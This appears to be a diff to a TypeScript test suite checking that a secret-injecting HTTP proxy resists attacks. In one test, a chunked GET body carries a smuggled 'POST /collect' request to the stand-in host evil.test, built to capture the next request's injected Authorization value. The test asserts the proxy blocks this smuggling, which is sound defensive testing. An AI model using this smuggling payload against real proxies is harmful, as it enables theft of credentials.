@@ -41,16 +41,19 @@ describe('secret injection: attacks on the proxy', () => {
    */
   const onUpstream = (s: Socket) => {
     const i = got.push('') - 1;
-    let answered = false;
+    let answered = 0;
     s.on('data', (d: Buffer) => {
       got[i] += d.toString('latin1');
-      if (!answered && got[i].includes('\r\n\r\n')) {
-        answered = true;
-        if (got[i].startsWith('GET /hold ')) return; // never answered: the connection stays
-        const auth = /\r\nAuthorization: ([^\r]*)\r\n/i.exec(got[i])?.[1] ?? 'OK';
-        const named = /\r\nX-Reflect-Name: 1\r\n/i.test(got[i]) ? `x-${auth.split(' ').pop()}: 1\r\n` : '';
+      // Each request head that starts where a message may (the start, or right after a
+      // head's end), as a naive server parses a kept-alive connection: answered in turn.
+      const heads = [...got[i].matchAll(/(?<=^|\r\n\r\n)[A-Z]+ \S+ HTTP\/1\.1\r\n[\s\S]*?\r\n\r\n/g)].map((m) => m[0]);
+      for (; answered < heads.length; answered++) {
+        const head = heads[answered];
+        if (head.startsWith('GET /hold ')) continue; // never answered: the connection stays
+        const auth = /\r\nAuthorization: ([^\r]*)\r\n/i.exec(head)?.[1] ?? 'OK';
+        const named = /\r\nX-Reflect-Name: 1\r\n/i.test(head) ? `x-${auth.split(' ').pop()}: 1\r\n` : '';
         // X-Reflect-Escaped: as a PHP API's JSON (`/` escaped) and a URL would carry it.
-        const body = /\r\nX-Reflect-Escaped: 1\r\n/i.test(got[i])
+        const body = /\r\nX-Reflect-Escaped: 1\r\n/i.test(head)
           ? `{"auth":${JSON.stringify(auth).replace(/\//g, '\\/')},"next":"/x?t=${encodeURIComponent(auth)}","form":"${encodeURIComponent(auth).replace(/%20/g, '+')}"}`
           : 'ok';
         s.write(`HTTP/1.1 200 ${auth}\r\n${named}content-length: ${body.length}\r\n\r\n${body}`);
@@ -190,21 +193,25 @@ describe('secret injection: attacks on the proxy', () => {
 
   it('a body on a GET (HTTP/1.1 chunked, HTTP/2 DATA) goes upstream framed: no second request is smuggled', async () => {
     rules = [bearer];
-    const inner = 'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n';
+    // Sent bare after the GET's head, this body is a request of its own to the upstream,
+    // for another name it serves; on a kept-alive upstream connection the next injected
+    // request (its Authorization with the value) becomes its body, delivered to that name.
+    const inner = 'POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 120\r\n\r\n';
+    const smuggled = /(?<=^|\r\n\r\n)POST \/collect /;
     got.length = 0;
     const r = await raw(
-      `GET /a HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`,
+      `GET /a HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n` +
+        'GET /next HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n',
     );
-    assert.match(r, /^HTTP\/1.1 200 /);
+    assert.equal((r.match(/HTTP\/1.1 200 /g) ?? []).length, 2, r);
     const viaH2 = await h2({ ':path': '/b' }, inner);
     assert.equal(viaH2.status, 200);
-    assert.equal(got.length, 2);
-    for (const g of got) {
-      // The body is chunked upstream: its bytes never start a request of their own.
-      assert.match(g, /\r\ntransfer-encoding: chunked\r\n/i, g);
-      assert.ok(!g.includes(`\r\n\r\n${inner}`), `smuggled: ${JSON.stringify(g)}`);
-      assert.ok(g.includes(`${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`), JSON.stringify(g));
-    }
+    assert.ok(got.length >= 2);
+    for (const g of got) assert.ok(!smuggled.test(g), `smuggled: ${JSON.stringify(g)}`);
+    // The body is chunked upstream: its bytes never start a request of their own.
+    const framed = got.filter((g) => g.includes(`${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`));
+    assert.equal(framed.length, 2, JSON.stringify(got));
+    for (const g of framed) assert.match(g, /\r\ntransfer-encoding: chunked\r\n/i);
   });
 
   it('a header rule puts the value in its header only: the placeholder in the target or another header stays', async () => {
